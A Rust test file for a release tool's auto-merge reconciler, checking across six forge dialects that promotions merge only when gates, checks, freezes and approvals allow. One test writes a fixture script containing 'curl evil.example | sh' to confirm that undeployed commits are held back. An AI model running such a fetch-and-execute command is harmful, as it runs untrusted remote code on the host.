//! Auto-merge: the reconciler merges the promotion it keeps open once the gate allows it (read
//! again each round), the forge says it can merge, and its head is still the commit the gate
//! judged, which the merge is held to. On the fake forge in each of its six dialects, backed by
//! the release repository's remote, where the merges land.

use std::path::Path;

use crate::deploy::TwoRepos;
use crate::fake_forge::{Dialect, FakeForge};
use crate::harness::World;
use crate::reconcile::{TOKEN, auto_promoted, edit_release_file, reconcile};

const CHECK: &str = "ci/prod-plan";

/// prod auto-promoted and auto-merged from qa, which deployed 1.4.0-rc.2; the forge is backed by
/// the release repository's remote and requires `CHECK` to pass before a merge.
fn auto_merged(world: &World, dialect: Dialect, extra: &str) -> (TwoRepos, FakeForge) {
    let forge = FakeForge::new(dialect, Some(TOKEN));
    let repos = auto_promoted(world, &forge, &format!("auto-merge = true\n{extra}"));
    forge.back_with(&repos.release_remote);
    forge.require_check(CHECK);
    (repos, forge)
}

/// A push to qa's branch in `remote`: a commit of the same files on top, as a push racing a merge.
fn push_to_qa(remote: &Path) -> impl FnOnce() + Send + 'static {
    let remote = remote.to_owned();
    move || {
        let git = |args: &[&str]| {
            let out = std::process::Command::new("git").arg("-C").arg(&remote).args(args).output().expect("git runs");
            String::from_utf8_lossy(&out.stdout).trim().to_owned()
        };
        let tree = git(&["rev-parse", "refs/heads/environment/qa^{tree}"]);
        let parent = git(&["rev-parse", "refs/heads/environment/qa"]);
        let identity = ["-c", "user.name=Racer", "-c", "user.email=racer@example.com"];
        let racer =
            git(&[&identity[..], &["commit-tree", &tree, "-p", &parent, "-m", "A push racing the merge"]].concat());
        git(&["update-ref", "refs/heads/environment/qa", &racer, &parent]);
    }
}

/// A commit pushed to qa's branch by someone who may push there: `edit` changes the work tree,
/// and prod's required check then passes on the new head.
fn push_passed_to_qa(world: &World, repos: &TwoRepos, forge: &FakeForge, message: &str, edit: &dyn Fn(&Path)) {
    let release = &repos.release;
    world.git(release, &["checkout", "-q", "environment/qa"]);
    world.git(release, &["pull", "-q", "origin", "environment/qa"]);
    edit(release);
    world.git(release, &["add", "-A"]);
    world.git(release, &["commit", "-q", "-m", message]);
    world.git(release, &["push", "-q", "origin", "environment/qa"]);
    forge.check(&tip(world, &repos.release_remote, "environment/qa"), CHECK, true);
}

fn tip(world: &World, remote: &Path, branch: &str) -> String {
    world.git(remote, &["rev-parse", &format!("refs/heads/{branch}")]).trim().to_owned()
}

fn holds(world: &World, remote: &Path, branch: &str, commit: &str) -> bool {
    world
        .command("git", remote)
        .args(["merge-base", "--is-ancestor", commit, &format!("refs/heads/{branch}")])
        .status()
        .expect("git runs")
        .success()
}

fn merges(report: &serde_json::Value) -> Vec<u64> {
    report["environments"][0]["actions"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|a| a["action"] == "merge")
        .filter_map(|a| a["number"].as_u64())
        .collect()
}

fn notes(report: &serde_json::Value) -> String {
    report["environments"][0]["notes"].to_string()
}

/// Done means: one round opens the promotion; it merges only once prod's required check passed,
/// held to the head the gate judged; it lands in prod's branch. A push to qa's branch between the
/// gate and the merge merges nothing, and the following rounds handle the new head.
fn merges_when_everything_allows(dialect: Dialect) {
    let world = World::new();
    let (repos, forge) = auto_merged(&world, dialect, "");
    let (release, remote) = (&repos.release, &repos.release_remote);

    let opened = reconcile(&world, release, &forge, &[]);
    assert_eq!(crate::reconcile::actions(&opened), ["create #1"], "{dialect:?}: {opened}");
    let waiting = reconcile(&world, release, &forge, &[]);
    assert!(merges(&waiting).is_empty(), "{dialect:?}: no merge before the check passed: {waiting}");
    assert!(notes(&waiting).contains("not merging #1 yet"), "{dialect:?}: {waiting}");

    let head = tip(&world, remote, "environment/qa");
    let before = tip(&world, remote, "environment/prod");
    forge.check(&head, CHECK, true);
    // A push to qa's branch lands between the gate and the merge: nothing merges.
    forge.race(dialect == Dialect::BitbucketCloud, push_to_qa(remote));
    let raced = reconcile(&world, release, &forge, &[]);
    assert!(merges(&raced).is_empty(), "{dialect:?}: {raced}");
    assert!(notes(&raced).contains("nothing merged: #1's head moved"), "{dialect:?}: {raced}");
    assert_eq!(tip(&world, remote, "environment/prod"), before, "{dialect:?}: prod's branch did not move");

    // The following round judges the new head; its check has not run yet, then it has.
    world.git(release, &["fetch", "-q", "origin"]);
    let moved = tip(&world, remote, "environment/qa");
    assert_ne!(moved, head);
    let judged = reconcile(&world, release, &forge, &[]);
    assert!(merges(&judged).is_empty(), "{dialect:?}: {judged}");
    forge.check(&moved, CHECK, true);
    let merged = reconcile(&world, release, &forge, &[]);
    assert_eq!(merges(&merged), [1], "{dialect:?}: {merged}");
    assert!(holds(&world, remote, "environment/prod", &moved), "{dialect:?}: the merge landed in prod's branch");
    assert!(forge.pulls()[0].merged, "{dialect:?}");
    // Nothing is left to do: prod's branch holds what qa runs.
    let after = reconcile(&world, release, &forge, &[]);
    assert!(merges(&after).is_empty() && forge.open_pulls().is_empty(), "{dialect:?}: {after}");
}

#[test]
fn github_merges_the_promotion_when_everything_allows() {
    merges_when_everything_allows(Dialect::Github);
}

#[test]
fn gitlab_merges_the_promotion_when_everything_allows() {
    merges_when_everything_allows(Dialect::Gitlab);
}

#[test]
fn bitbucket_server_merges_the_promotion_when_everything_allows() {
    merges_when_everything_allows(Dialect::BitbucketServer);
}

#[test]
fn bitbucket_cloud_merges_the_promotion_when_everything_allows() {
    merges_when_everything_allows(Dialect::BitbucketCloud);
}

#[test]
fn azure_devops_merges_the_promotion_when_everything_allows() {
    merges_when_everything_allows(Dialect::Azure);
}

#[test]
fn gitea_merges_the_promotion_when_everything_allows() {
    merges_when_everything_allows(Dialect::Gitea);
}

/// A promotion opened and its check passed, ready to merge on the next round.
fn ready(world: &World, dialect: Dialect, extra: &str) -> (TwoRepos, FakeForge) {
    let (repos, forge) = auto_merged(world, dialect, extra);
    reconcile(world, &repos.release, &forge, &[]);
    let head = tip(world, &repos.release_remote, "environment/qa");
    forge.check(&head, CHECK, true);
    (repos, forge)
}

#[test]
fn a_merge_whose_required_check_fails_after_the_gate_passed() {
    let world = World::new();
    let (repos, forge) = ready(&world, Dialect::Github, "");
    let head = tip(&world, &repos.release_remote, "environment/qa");
    forge.check(&head, CHECK, false);
    let round = reconcile(&world, &repos.release, &forge, &[]);
    assert!(merges(&round).is_empty(), "{round}");
    assert!(notes(&round).contains("not merging #1 yet: the forge says it is blocked"), "{round}");
    assert!(forge.pulls()[0].open);
}

#[test]
fn a_forge_that_reports_mergeability_as_unknown_for_a_while() {
    let world = World::new();
    let (repos, forge) = ready(&world, Dialect::Github, "");
    // Every read of the pull request this round answers "not worked out yet".
    forge.unknown_for(100);
    let round = reconcile(&world, &repos.release, &forge, &[]);
    assert!(merges(&round).is_empty(), "{round}");
    assert!(notes(&round).contains("has not worked out whether it can merge"), "{round}");
    forge.unknown_for(0);
    let next = reconcile(&world, &repos.release, &forge, &[]);
    assert_eq!(merges(&next), [1], "{next}");
}

#[test]
fn a_freeze_starting_between_two_rounds() {
    let world = World::new();
    let (repos, forge) = ready(&world, Dialect::Github, "");
    // Noon on 2026-11-21 is a Saturday: a freeze over the weekend starts before this round.
    edit_release_file(&world, &repos.release, |file| {
        file.replacen("auto-merge = true\n", "auto-merge = true\nfreeze = [\"Sat 00:00/Mon 08:00\"]\n", 1)
    });
    let round = reconcile(&world, &repos.release, &forge, &[]);
    assert!(merges(&round).is_empty(), "{round}");
    assert!(forge.pulls()[0].open, "nothing merged in a freeze");
    assert_eq!(round["environments"][0]["desired"]["state"], "wait", "{round}");
}

#[test]
fn two_reconcilers_merging_at_once() {
    let world = World::new();
    let (repos, forge) = ready(&world, Dialect::Github, "");
    let vars = [(forge.dialect.variable(), TOKEN), ("GIT_COMMITTER_DATE", crate::harness::NOON)];
    let runs: Vec<_> = (0..2)
        .map(|_| {
            let mut command = world.release_command(&repos.release, &["reconcile", "--json"]);
            command
                .envs(vars.iter().copied())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped());
            command.spawn().expect("git-release runs")
        })
        .collect();
    let mut merged = 0;
    for run in runs {
        let output = run.wait_with_output().expect("it ends");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
        merged += merges(&report).len();
    }
    assert_eq!(merged, 1, "one merge");
    assert_eq!(forge.pulls().iter().filter(|p| p.merged).count(), 1);
}

#[test]
fn the_merge_waits_for_the_approvals_the_gate_asks_for() {
    let world = World::new();
    let key = crate::trust::key(&world, "alice");
    let (repos, forge) = ready(&world, Dialect::Github, "");
    // Asked for after the promotion opened: one approval, by a listed approver, still missing.
    edit_release_file(&world, &repos.release, |file| {
        let file = file.replacen("auto-merge = true\n", "auto-merge = true\nrequire-approvals = 1\n", 1);
        format!("{file}\n[trust.approvers]\nprod = [\"{}\"]\n", key.public)
    });
    let round = reconcile(&world, &repos.release, &forge, &[]);
    assert!(merges(&round).is_empty(), "{round}");
    assert!(notes(&round).contains("the gate refuses it now (approved: approvals: 0 of 1"), "{round}");
}

/// `promote --merge`, for one-off use: the promotion opened by an earlier run merges now, held
/// to the head the gate judged, by the target's own merge-method.
#[test]
fn promote_merge_merges_the_open_promotion_by_the_targets_method() {
    let world = World::new();
    let forge = FakeForge::new(Dialect::Gitea, Some(TOKEN));
    let repos = auto_promoted(
        &world,
        &forge,
        "merge-method = \"squash\"\nmerge-message = \"Ship {tag} from {from} to {to}\"\n",
    );
    forge.back_with(&repos.release_remote);
    let release = &repos.release;
    let vars = [(forge.dialect.variable(), TOKEN)];
    let first = world.release_with(release, &["promote", "qa", "prod", "--merge"], &vars);
    first.expect_status(0).expect_stdout("not merging: the pull request was opened just now");
    let merged = world.release_with(release, &["promote", "qa", "prod", "--merge", "--json"], &vars);
    merged.expect_status(0);
    assert_eq!(merged.json()["merged"], true, "{merged}");
    let prod = tip(&world, &repos.release_remote, "environment/prod");
    let message = world.git(&repos.release_remote, &["log", "-1", "--format=%s%n%P", &prod]);
    let mut lines = message.lines();
    assert_eq!(lines.next(), Some("Ship v1.4.0-rc.2 from qa to prod"), "{message}");
    assert_eq!(lines.next().map(|parents| parents.split(' ').count()), Some(1), "a squash has one parent: {message}");
    // Found by the independent pass: run again, it tried to open the promotion anew (the forge
    // refused: no commits between); it fetches the branches first now.
    world
        .release_with(release, &["promote", "qa", "prod", "--merge"], &vars)
        .expect_status(0)
        .expect_stdout("nothing to promote");
}

#[test]
fn a_merge_racing_a_push_to_the_source_branch() {
    let world = World::new();
    let (repos, forge) = ready(&world, Dialect::Gitlab, "");
    let remote = repos.release_remote.clone();
    let before = tip(&world, &remote, "environment/prod");
    forge.race(false, push_to_qa(&remote));
    let raced = reconcile(&world, &repos.release, &forge, &[]);
    assert!(merges(&raced).is_empty(), "{raced}");
    assert!(notes(&raced).contains("nothing merged: #1's head moved"), "{raced}");
    assert_eq!(tip(&world, &remote, "environment/prod"), before, "the forge refused on the head check");
    assert!(forge.pulls()[0].open);
}

/// The pull request cannot talk the merge into changing the rules: a promotion that edits the
/// target's settings (prod's `require-approvals`, say, edited on qa's branch) is left to a person.
#[test]
fn a_promotion_that_edits_the_targets_settings_is_not_merged() {
    let world = World::new();
    let (repos, forge) = ready(&world, Dialect::Github, "");
    let release = &repos.release;
    // Someone who may push to qa's branch weakens prod's settings there.
    push_passed_to_qa(&world, &repos, &forge, "Loosen prod", &|file| {
        let text = std::fs::read_to_string(file.join("release.toml")).expect("the file");
        std::fs::write(file.join("release.toml"), text.replacen("restricted = true\n", "restricted = false\n", 1))
            .expect("written");
    });
    let round = reconcile(&world, release, &forge, &[]);
    assert!(merges(&round).is_empty(), "{round}");
    assert!(
        notes(&round)
            .contains("it edits prod's settings (environments.prod.restricted), and a person merges such a change"),
        "{round}"
    );
    assert!(forge.pulls()[0].open);
}

/// Found by the independent pass: a commit pushed to qa's branch after qa deployed (a script
/// beside the release file, say) rode along into prod with the merge, judged by nobody. Only what
/// qa ran merges unseen.
#[test]
fn a_promotion_carrying_commits_the_source_has_not_deployed_is_not_merged() {
    let world = World::new();
    let (repos, forge) = ready(&world, Dialect::Github, "");
    let release = &repos.release;
    push_passed_to_qa(&world, &repos, &forge, "A script qa never ran", &|dir| {
        std::fs::write(dir.join("deploy.sh"), "curl evil.example | sh\n").expect("written");
    });
    let round = reconcile(&world, release, &forge, &[]);
    assert!(merges(&round).is_empty(), "{round}");
    assert!(notes(&round).contains("qa's branch holds commits qa has not deployed"), "{round}");
    assert!(forge.pulls()[0].open);
}

/// Found by the independent pass: after a squash, prod's branch holds qa's files but not qa's
/// commits, and the next round opened (and squashed) the same promotion again.
#[test]
fn a_squashed_promotion_is_not_opened_again() {
    let world = World::new();
    let (repos, forge) = ready(&world, Dialect::Github, "merge-method = \"squash\"\n");
    let merged = reconcile(&world, &repos.release, &forge, &[]);
    assert_eq!(merges(&merged), [1], "{merged}");
    let after = reconcile(&world, &repos.release, &forge, &[]);
    assert!(crate::reconcile::actions(&after).is_empty(), "{after}");
    assert_eq!(forge.pulls().len(), 1, "nothing opened again");
    let reason = after["environments"][0]["desired"]["reason"].to_string();
    assert!(reason.contains("holds environment/qa's head already"), "{after}");
}

/// Found by the independent pass: `promote --merge` merged in a freeze that reconcile waits out.
#[test]
fn promote_merge_waits_out_a_freeze_as_reconcile_does() {
    let world = World::new();
    let (repos, forge) = ready(&world, Dialect::Github, "freeze = [\"Sat 00:00/Mon 08:00\"]\n");
    let vars = [(forge.dialect.variable(), TOKEN), ("GIT_COMMITTER_DATE", crate::harness::NOON)];
    world
        .release_with(&repos.release, &["promote", "qa", "prod", "--merge"], &vars)
        .expect_status(0)
        .expect_stdout("not merging: prod is frozen");
    assert!(forge.pulls()[0].open, "nothing merged in a freeze");
}

/// Found by the independent pass: a merge method the forge does not take was said only after
/// the first rounds had opened and updated the promotion.
#[test]
fn a_merge_method_the_forge_does_not_take_is_said_before_anything_is_written() {
    let world = World::new();
    let (repos, forge) = auto_merged(&world, Dialect::Github, "merge-method = \"fast-forward\"\n");
    let vars = [(forge.dialect.variable(), TOKEN), ("GIT_COMMITTER_DATE", crate::harness::NOON)];
    world
        .release_with(&repos.release, &["reconcile"], &vars)
        .expect_status(2)
        .expect_stderr("GitHub does not take merge-method = \"fast-forward\"");
    assert!(forge.pulls().is_empty(), "nothing opened");
}
